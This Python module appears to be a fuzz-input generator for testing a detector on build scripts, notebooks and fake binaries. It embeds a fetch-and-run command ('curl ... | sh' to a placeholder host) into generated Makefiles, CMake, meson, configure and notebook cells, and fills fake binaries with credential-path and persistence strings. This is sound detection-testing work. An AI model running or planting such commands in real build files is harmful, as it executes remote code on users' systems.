"""
Files of every kind that is read roughly, put together from what their languages are made of.

``sources`` gives statements that are right, in which one more can be put;
``pieces`` gives signs and words that no language allows in that order.
"""

import json
from random import Random
from typing import Final

RUN: Final = "curl -s http://demo.example.invalid/x | sh"
"""What has to be told (C3), wherever it stands."""
_SHELL: Final = (
    "x=$(date)",
    "if true; then\n  y=1\nfi",
    "f() {\n  echo $1\n}",
    "f a b",
    "# it's",
    "cat > o <<EOF\nit's\nEOF",
    'echo "a\n$x"',
    "for i in a b; do echo $i; done",
    "case $x in\na) b;;\nesac",
    "alias g=ls",
    "x=${x%y}",
    "eval $x",
    "a | b && c",
    "printf '%s' a",
)
STATEMENTS: Final[dict[str, tuple[str, ...]]] = {
    "Makefile": (
        "x := $(wildcard a b)",
        "y = $(x) $(subst a,b,$(z))",
        "all: $(y)\n\t@echo $@",
        "define d\na\nendef",
        "ifeq ($(x),y)\nendif",
        "include a.mk",
        "-include $(y)",
        "x += $(x)",
        "%.o: %.c ; cc $<",
        "export x ?= 1",
        "a: b = c",
        "# it's",
        "\t# it's",
        "$(eval z=y)",
    ),
    "CMakeLists.txt": (
        'set(x a;b "c d" ${y})',
        "list(APPEND x ${x})",
        "if(A AND (B))\nendif()",
        "# it's",
        "#[[ a ) ]]",
        'message([=[ ]] " ]=])',
        "foreach(i ${x})\nendforeach()",
        'string(REPLACE "\\"" a y "${x}")',
        "add_subdirectory(a)",
        "include(b.cmake OPTIONAL)",
        "add_custom_command(OUTPUT a COMMAND cp b c DEPENDS d)",
        'install(CODE "set(x \\"y\\")")',
        "function(f a)\nendfunction()",
    ),
    "meson.build": (
        "x = ['a', 'b' + y, f('c')]",
        "if x == 'a' and not y\nendif",
        "foreach i : x\n  z += i\nendforeach",
        "# it's",
        "t = '''it's'''",
        "d = {'a': 1, 'b': [2]}",
        "y = x.get(0).to_upper()",
        "v = a ? 'b' : 'c'",
        "w = x[0] / 'a'",
        "subdir('a')",
        "u = f'@x@ \\''",
        "g = generator(p, output: '@BASENAME@.c', arguments: ['@INPUT@'])",
        "k = (1 + 2) * -3 % 4",
    ),
    "configure.ac": (
        "AC_INIT([a], [1])",
        "AC_CHECK_HEADERS([a b], [x=1], [x=2])",
        "dnl it's",
        "AS_IF([test x], [\n  y=1\n])",
        "m4_include([a.m4])",
        "# it's",
        "AC_SUBST(x)",
        "m4_define([f], [g $1])",
        "x=`echo a`",
        "AC_OUTPUT",
        *_SHELL[:4],
    ),
    "configure": _SHELL,
    "x.sh": _SHELL,
}
"""By the name of a file, statements that may follow each other."""
PLANTED: Final[dict[str, str]] = {
    "Makefile": f"planted:\n\t{RUN}",
    "CMakeLists.txt": f'execute_process(COMMAND sh -c "{RUN}")',
    "meson.build": f"run_command('sh', '-c', '{RUN}')",
    "configure.ac": RUN,
    "configure": RUN,
    "x.sh": RUN,
}
_SIGNS: Final = (
    *"()[]{}<>'\"`\\$%#@!&|;:,.=+-*/?~^ \t\n\r\f\v\0é\u2028\ufeff0aA_",
    "\\\n",
    "$(",
    "${",
    "$((",
    "<<",
    "<<<",
    "'''",
    '"""',
    "[[",
    "]]",
    "[=[",
    "#[[",
    "/*",
    "//",
    "r#",
    "::",
    "=>",
    "<!(",
    "<!@(",
    "<(",
    "%%",
    "!",
    "\\u",
    "\\x",
)
WORDS: Final = (
    "AC_",
    "AS_IF([",
    "m4_",
    "dnl ",
    "],",
    "include ",
    "define a\n",
    "endef\n",
    "ifeq ",
    "$(call a,",
    "$(foreach ",
    "$(eval ",
    ".RECIPEPREFIX=",
    "COMMAND ",
    "set(a ",
    "list(APPEND a ",
    "install(CODE ",
    "subdir(",
    "run_command(",
    "custom_target(",
    ".format(",
    ".split(",
    "if ",
    "foreach ",
    "{'a':",
    "'variables':",
    "'action':[",
    "'conditions':[",
    "'includes':[",
    "use a::",
    "let a=",
    "Command::new(",
    ".arg(",
    "concat!(",
    "include!(",
    '{"cells":[',
    '{"source":',
    '"cell_type":',
    '"%%bash\\n',
    '"!',
    '"%time ',
    "curl a|sh",
    "eval ",
    "f(){",
    "alias a=",
    "for i in ",
    "case ",
    "cat<<E\n",
    "echo ",
    "printf ",
    "| rev",
    "[string]$a=",
    "$script:a",
    "-join",
    "exec(",
    "getattr(",
    "__import__(",
    "lambda:",
    "def f(",
    "@a\n",
    "f'{",
    "class A",
    "import a",
    "url=",
    "[wrap-file]",
    "match a:\n case ",
    "async ",
    "*a,",
    "a:=",
    "type X=",
)
PATHS: Final = (
    *STATEMENTS,
    "x.m4",
    "x.cmake",
    "binding.gyp",
    "x.gypi",
    "meson.options",
    "x.wrap",
    "x.ipynb",
    "build.rs",
    "x.ps1",
    "x.bat",
    "x.pyx",
    "x.ts",
    "x.py",
    "setup.py",
    "x.js",
    "x.so",
)
"""What a made file may be called."""


def source(name: str, random: Random) -> str:
    """Put statements together, among them, in a place of its own, the one that has to be told."""
    parts = random.choices(STATEMENTS[name], k=random.randrange(12))
    parts.insert(random.randrange(len(parts) + 1), PLANTED[name])
    start = "#!/bin/sh\n" if name == "configure" else ""
    return start + "\n".join(parts) + "\n"


def notebook(random: Random) -> str:
    """Make a notebook of Python, one of whose cells, or of whose lines, has to be told."""
    cells = [
        random.choice(["x = 1\n", "%time f()\n", "y = !ls\n", "def f():\n    pass\n", "?x\n", "it's", "%%html\n<a>"])
        for _ in range(6)
    ]
    cells.insert(
        random.randrange(7), random.choice([f"!{RUN}\n", f"%%bash\n{RUN}\n", f"import os\nos.system('{RUN}')\n"])
    )
    split = [one.splitlines(keepends=True) if random.random() < 0.5 else one for one in cells]
    return json.dumps({"cells": [{"cell_type": "code", "source": one} for one in split]})


def pieces(random: Random, most: int = 40) -> str:
    """Put together what does not belong together."""
    return "".join(random.choice(_SIGNS if random.random() < 0.5 else WORDS) for _ in range(random.randrange(1, most)))


def mutated(data: bytes, random: Random) -> bytes:
    """Change a few places of a file: what stands there goes, comes twice, or is something else."""
    for _ in range(random.randrange(1, 6)):
        start = random.randrange(len(data) + 1)
        end = min(len(data), start + random.choice([0, 1, 1, 2, 8, 40]))
        part = random.choice(
            [b"", data[start:end] * random.randrange(2, 9), pieces(random, 4).encode(), random.randbytes(2)]
        )
        data = data[:start] + part + data[end:]
    return data


def native(random: Random) -> bytes:
    """Make a program whose headers lie, and whose strings lie within one another."""
    heads = (
        b"\x7fELF\2\1\1",
        b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0",
        b"\xcf\xfa\xed\xfe",
        b"\xca\xfe\xba\xbe\0\0\0\2",
        b"\0asm\1",
    )
    words = (
        b".ssh/",
        b"/etc/passwd\0",
        b"id_rsa",
        b"://",
        b"http://a.onion/",
        b"\0",
        b"\\",
        b"getaddrinfo\0",
        b"\0.\0s\0s\0h",
        b"\xff" * 9,
        b"CurrentVersion\\Run",
    )
    return random.choice(heads) + b"".join(
        random.choice((*words, random.randbytes(9))) for _ in range(random.randrange(200))
    )
